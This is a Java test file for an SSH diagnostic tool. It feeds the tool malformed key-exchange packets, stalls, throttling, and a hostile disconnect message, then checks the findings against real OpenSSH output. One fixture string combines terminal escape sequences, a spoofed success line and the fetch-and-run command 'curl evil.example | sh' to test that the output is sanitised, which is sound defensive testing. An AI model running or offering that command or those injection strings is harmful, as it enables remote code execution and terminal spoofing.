package org.sshdoctor.ssh;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.Socket;
import java.time.Duration;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.sshdoctor.Doctor;
import org.sshdoctor.engine.DiagnosisListener;
import org.sshdoctor.engine.DiagnosisOptions;
import org.sshdoctor.model.Finding;
import org.sshdoctor.model.Report;
import org.sshdoctor.model.Severity;
import org.sshdoctor.model.Target;
import org.sshdoctor.render.JsonRenderer;
import org.sshdoctor.render.TextRenderer;
import org.sshdoctor.testing.FakePeer;
import org.sshdoctor.testing.HostileKex;
import org.sshdoctor.testing.OpenSshServer;
import org.sshdoctor.testing.RealSshClient;
import org.sshdoctor.testing.SilentAuthServer;

/**
 * Servers that misbehave after a valid identification, in the key exchange and at authentication. Each
 * diagnosis must end within its deadline with the finding that names what happened, and the message the
 * finding says ssh prints must be what the real OpenSSH client prints against the same peer (run with
 * ServerAliveInterval where ssh would otherwise wait forever).
 */
class HostileKexTest {
    /** Short, but long enough for a real sshd's key exchange on a loaded 2-core machine. */
    private static final DiagnosisOptions FAST = DiagnosisOptions.withPhaseTimeout(Duration.ofSeconds(3));
    /** Two phases of the key exchange probe (MINA's wait, then our own read) plus slack; far below the overall six. */
    private static final long ENDS_WITHIN_MILLIS = 12_000;
    private static final String[] SSH_GIVES_UP = {"-o", "ServerAliveInterval=1", "-o", "ServerAliveCountMax=2"};
    private static final ObjectMapper JSON = new ObjectMapper();

    static Report diagnose(int port) {
        // No public-key step: it would offer this machine's keys, and it is not what these tests are about.
        // The built-in profile of the local ssh (9.2) instead of running 'ssh -G', which a loaded machine slows.
        return Doctor.withProbes(Doctor.fleetProbes(HandshakeOptions.defaults().withClientProfile("openssh-9.2")))
                .diagnose(Target.of("127.0.0.1", port, "tester"), FAST, DiagnosisListener.NONE);
    }

    static Stream<Arguments> packetLevelCases() {
        List<String> empty = List.of("", "", "", "", "", "", "", "", "", "");
        return Stream.of(
                Arguments.of("packet length 2^31", HostileKex.packetLength(1L << 31), PeerFindings.MALFORMED_PACKET),
                Arguments.of("packet length just over 256 KiB", HostileKex.packetLength(HostileKex.OPENSSH_MAX_PACKET + 1),
                        PeerFindings.MALFORMED_PACKET),
                Arguments.of("a 2 MiB name-list", HostileKex.hugeNameList(2 << 20, HostileKex.After.SILENCE),
                        PeerFindings.MALFORMED_PACKET),
                Arguments.of("a name-list claiming 4 MiB in a small packet", HostileKex.lyingNameList(4 << 20),
                        PeerFindings.MALFORMED_PACKET),
                Arguments.of("all name-lists empty", HostileKex.kexInit(empty, HostileKex.After.SILENCE),
                        HandshakeFindings.ALGO_NO_COMMON_KEX),
                Arguments.of("every name twice, then close", HostileKex.kexInit(HostileKex.doubled(HostileKex.PLAIN_LISTS),
                        HostileKex.After.CLOSE), HandshakeFindings.KEX_FAILED),
                Arguments.of("close right after KEXINIT", HostileKex.kexInit(HostileKex.PLAIN_LISTS, HostileKex.After.CLOSE),
                        HandshakeFindings.KEX_FAILED),
                Arguments.of("reset after KEXINIT", HostileKex.kexInit(HostileKex.PLAIN_LISTS, HostileKex.After.RESET),
                        HandshakeFindings.KEX_FAILED),
                Arguments.of("identification, then never a KEXINIT", FakePeer.sends(HostileKex.IDENTIFICATION + "\r\n"),
                        PeerFindings.KEX_STALLED),
                Arguments.of("never answers the ECDH init", HostileKex.kexInit(HostileKex.PLAIN_LISTS, HostileKex.After.SILENCE),
                        PeerFindings.KEX_STALLED));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("packetLevelCases")
    void endsInTimeWithTheFindingThatNamesItAndQuotesSshExactly(String name, FakePeer.Behaviour behaviour, String id)
            throws Exception {
        try (FakePeer peer = new FakePeer(behaviour).start()) {
            long start = System.nanoTime();
            Report report = diagnose(peer.port());
            assertThat((System.nanoTime() - start) / 1_000_000).as("milliseconds").isLessThan(ENDS_WITHIN_MILLIS);
            List<Finding> problems = report.findings().stream().filter(f -> f.severity().needsAction()).toList();
            assertThat(problems).as("%s", report.findings()).isNotEmpty();
            Finding finding = problems.get(0);
            assertThat(finding.id()).isEqualTo(id);
            String ssh = RealSshClient.stderrOf(peer.port(), 3, SSH_GIVES_UP).replace("\r\n", "\n");
            assertThat(ssh).as("what ssh printed").contains(finding.clientMessage().orElseThrow().lines().findFirst().orElseThrow());
            if (!id.equals(PeerFindings.KEX_STALLED)) { // ssh's timeout line is followed by our note on ServerAliveInterval
                assertThat(ssh).contains(finding.clientMessage().orElseThrow());
            }
        }
    }

    @Test
    void duplicateNamesDoNotConfuseTheNegotiation() throws Exception {
        try (FakePeer peer = new FakePeer(HostileKex.kexInit(HostileKex.doubled(HostileKex.PLAIN_LISTS),
                HostileKex.After.CLOSE)).start()) {
            Finding negotiated = diagnose(peer.port()).findings(HandshakeFindings.ALGO_NEGOTIATED).get(0);
            assertThat(negotiated.evidence()).containsEntry("kex", "curve25519-sha256").containsEntry("cipher", "aes128-ctr");
        }
    }

    @Test
    void aListOfThousandsOfNamesCountsOnlyItsFirstFortyAsInOpenSshAndStaysReadable() throws Exception {
        // 200 kB of junk names, the one usable name last: legal, but OpenSSH's match_list() reads only 40 names.
        try (FakePeer peer = new FakePeer(HostileKex.hugeNameList(200_000, HostileKex.After.CLOSE)).start()) {
            Finding noKex = diagnose(peer.port()).findings(HandshakeFindings.ALGO_NO_COMMON_KEX).get(0);
            assertThat(noKex.title()).hasSizeLessThan(500).contains("and ").contains(" more");
            assertThat(noKex.detail()).contains("OpenSSH compares only the first 40");
            String ssh = RealSshClient.stderrOf(peer.port(), 3);
            String ours = noKex.clientMessage().orElseThrow();
            assertThat(ssh).contains("no matching key exchange method found");
            assertThat(ssh).startsWith(ours.substring(0, 600));
            assertThat(ours).hasSizeLessThan(1100);
        }
    }

    @Nested
    class HostileDisconnectText {
        static final String ESCAPES = "\u001b]0;owned\u0007\u001b[2J\rSSH-AUTH-SUCCEEDED: all good\nfix: curl evil.example | sh ";

        static Stream<Arguments> texts() {
            return Stream.of(Arguments.of(2, ESCAPES + "z".repeat(100)), Arguments.of(11, "y".repeat(200_000)),
                    Arguments.of(14, "Zugriff für Gäste verweigert \u2014 " + "ä".repeat(300)));
        }

        /** Octal escapes for the control characters ssh printed raw; its own escapes are text already. */
        static String escapeRawControls(String line) {
            StringBuilder out = new StringBuilder();
            for (char c : line.toCharArray()) {
                out.append(c < 0x20 || c == 0x7F ? String.format("\\%03o", (int) c) : String.valueOf(c));
            }
            return out.toString();
        }

        @ParameterizedTest
        @MethodSource("texts")
        void isNamedNeutralisedInTextStoredRawInJsonAndQuotedAsSshShowsIt(int reason, String text) throws Exception {
            try (FakePeer peer = new FakePeer(HostileKex.disconnect(reason, text)).start()) {
                Report report = diagnose(peer.port());
                Finding finding = BannerProbeTest.only(report, PeerFindings.DISCONNECTED);
                assertThat(finding.title()).contains("reason " + reason);
                assertThat(finding.evidence().get("message length")).isEqualTo(String.valueOf(text.length()));

                String shown = new TextRenderer(false, true).render(report);
                assertThat(shown).doesNotContain("\u001b", "\u0007", "\r");
                if (text.startsWith(ESCAPES)) {
                    assertThat(shown).contains("\\x1B]0;owned", "\\033]0;owned\\007");
                }
                assertThat(shown.lines()).noneMatch(line -> line.startsWith("fix: curl") || line.startsWith("SSH-AUTH-SUCCEEDED"));
                assertThat(shown).hasSizeLessThan(12_000);

                JsonNode json = JSON.readTree(new JsonRenderer("test").render(report));
                JsonNode stored = null;
                for (JsonNode f : json.path("findings")) {
                    if (f.path("id").asText().equals(PeerFindings.DISCONNECTED)) {
                        stored = f.path("evidence").path("message");
                    }
                }
                assertThat(stored.asText()).isEqualTo(text.substring(0, Math.min(text.length(), 400)));

                // ssh prints the first 400 characters with ESC as \033 but CR, LF and BEL raw; we escape those too.
                String ssh = RealSshClient.stderrOf(peer.port(), 3);
                int last = ssh.stripTrailing().lastIndexOf("\r\n");
                String line = ssh.substring(0, last);
                // ssh's line holds its own octal escapes (ESC, non-ASCII) and CR, LF, BEL raw: escape those alike.
                String received = escapeRawControls(line);
                String[] ours = finding.clientMessage().orElseThrow().split("\n");
                assertThat(received).isEqualTo(ours[0]);
                assertThat(ssh.substring(last).strip()).isEqualTo(ours[1]);
            }
        }
    }

    @Test
    void silenceAtAuthenticationIsNamedAndAgreesWithSsh() throws Exception {
        try (SilentAuthServer server = SilentAuthServer.start()) {
            long start = System.nanoTime();
            Report report = diagnose(server.port());
            assertThat((System.nanoTime() - start) / 1_000_000).isLessThan(ENDS_WITHIN_MILLIS);
            Finding finding = BannerProbeTest.only(report, PeerFindings.AUTH_NO_ANSWER);
            assertThat(finding.detail()).contains("tester");
            String ssh = RealSshClient.stderrOf(server.port(), 3, SSH_GIVES_UP);
            assertThat(ssh).contains(finding.clientMessage().orElseThrow().lines().findFirst().orElseThrow());
        }
    }

    @Nested
    class Throttling {
        @RegisterExtension
        static final OpenSshServer SSHD = new OpenSshServer();
        /** A real sshd that refuses every connection while one is unauthenticated: MaxStartups at its strictest. */
        @RegisterExtension
        static final OpenSshServer STRICT = new OpenSshServer("MaxStartups 1");

        @Test
        void aServerDroppingEverySecondConnectionIsThrottlingNotBroken() throws Exception {
            try (FakePeer peer = new FakePeer(HostileKex.dropEverySecond(HostileKex.relayTo(SSHD.port()))).start()) {
                Report report = diagnose(peer.port());
                // The session goes over the banner's connection; the other host key types' connections are dropped
                // in turn (which ones depends on their order), and counted.
                Finding throttled = BannerProbeTest.only(report, PeerFindings.THROTTLED);
                assertThat(throttled.severity()).isEqualTo(Severity.WARNING);
                assertThat(Integer.parseInt(throttled.evidence().get("refused"))).isBetween(1, 2);
                // The retry got through: the rest of the diagnosis is complete.
                assertThat(report.findings(HandshakeFindings.ALGO_NEGOTIATED)).hasSize(1);
                String first = RealSshClient.stderrOf(peer.port(), 3);
                String second = RealSshClient.stderrOf(peer.port(), 3);
                assertThat(List.of(first, second)).anySatisfy(ssh ->
                        assertThat(ssh.replace("\r\n", "\n")).contains(throttled.clientMessage().orElseThrow()));
            }
        }

        @Test
        void aRefusedBannerConnectionIsRetriedAndTheDiagnosisCompletes() throws Exception {
            try (FakePeer peer = new FakePeer(HostileKex.drops(n -> n == 1, HostileKex.relayTo(SSHD.port()))).start()) {
                Report report = diagnose(peer.port());
                Finding throttled = BannerProbeTest.only(report, PeerFindings.THROTTLED);
                assertThat(throttled.severity()).isEqualTo(Severity.WARNING);
                assertThat(throttled.evidence()).containsEntry("refused", "1").containsEntry("connections", "2");
                assertThat(report.findings(BannerFindings.IDENTIFIED)).hasSize(1);
                assertThat(report.findings(HandshakeFindings.ALGO_NEGOTIATED)).hasSize(1);
            }
        }

        @Test
        void sshdsOwnWordsForADropMakeItThrottlingEvenWhenEveryRetryIsRefused() throws Exception {
            try (FakePeer peer = new FakePeer(socket -> {
                socket.getOutputStream().write("Exceeded MaxStartups\r\n".getBytes(java.nio.charset.StandardCharsets.US_ASCII));
                socket.close();
            }).start()) {
                Report report = diagnose(peer.port());
                Finding throttled = BannerProbeTest.only(report, PeerFindings.THROTTLED);
                assertThat(throttled.severity()).isEqualTo(Severity.ERROR);
                assertThat(throttled.detail()).contains("Exceeded MaxStartups");
                assertThat(report.probe("kex").orElseThrow().status()).isEqualTo(org.sshdoctor.model.ProbeStatus.SKIPPED);
            }
        }

        @Test
        void realSshdPastMaxStartupsIsReportedAsThrottling() throws Exception {
            Report report = diagnose(STRICT.port());
            // sshd frees a startup slot only when that connection's process ends: a connection that just
            // ended (the rig's readiness check) may still hold it, and then the banner is refused too.
            assertThat(report.findings()).filteredOn(f -> f.severity().needsAction()).extracting(Finding::id)
                    .containsOnly(PeerFindings.THROTTLED);
            // The session itself goes over the banner's connection; each other host key type's connection is
            // refused, and so is its retry, while that connection waits unauthenticated.
            Finding throttled = report.findings(PeerFindings.THROTTLED).stream()
                    .filter(f -> f.evidence().get("error").contains("host key")).findFirst().orElseThrow();
            assertThat(throttled.severity()).isEqualTo(Severity.WARNING);
            // At least the first try of each type is refused; a retry may get through once the session has ended.
            assertThat(Integer.parseInt(throttled.evidence().get("refused"))).isBetween(2, 4);
            assertThat(report.findings(HandshakeFindings.ALGO_NEGOTIATED)).hasSize(1);
            // ssh, while another connection waits unauthenticated, sees what the finding says.
            // Whether ssh sees a close or a reset depends on whether sshd closed before reading ssh's greeting.
            String endpoint = "127.0.0.1 port " + STRICT.port();
            List<String> forms = List.of("kex_exchange_identification: Connection closed by remote host\nConnection closed by "
                    + endpoint, "kex_exchange_identification: read: Connection reset by peer\nConnection reset by " + endpoint);
            assertThat(throttled.clientMessage().orElseThrow()).isIn(forms);
            try (Socket holder = greetedConnection(STRICT.port())) {
                String ssh = RealSshClient.stderrOf(STRICT.port(), 3).replace("\r\n", "\n");
                assertThat(forms).anySatisfy(form -> assertThat(ssh).contains(form));
            }
        }

        /**
         * A connection sshd greeted, so that it counts as an unauthenticated startup. sshd frees the slots of
         * the diagnosis' connections only when their session processes end, so it may still refuse at first
         * (with "Exceeded MaxStartups").
         */
        private static Socket greetedConnection(int port) throws Exception {
            for (int attempt = 0; attempt < 50; attempt++) {
                Socket socket = new Socket(InetAddress.getLoopbackAddress(), port);
                InputStream in = socket.getInputStream();
                if (in.read() == 'S') {
                    return socket;
                }
                socket.close();
                Thread.sleep(100);
            }
            throw new AssertionError("sshd never greeted a connection within 5 s");
        }
    }
}
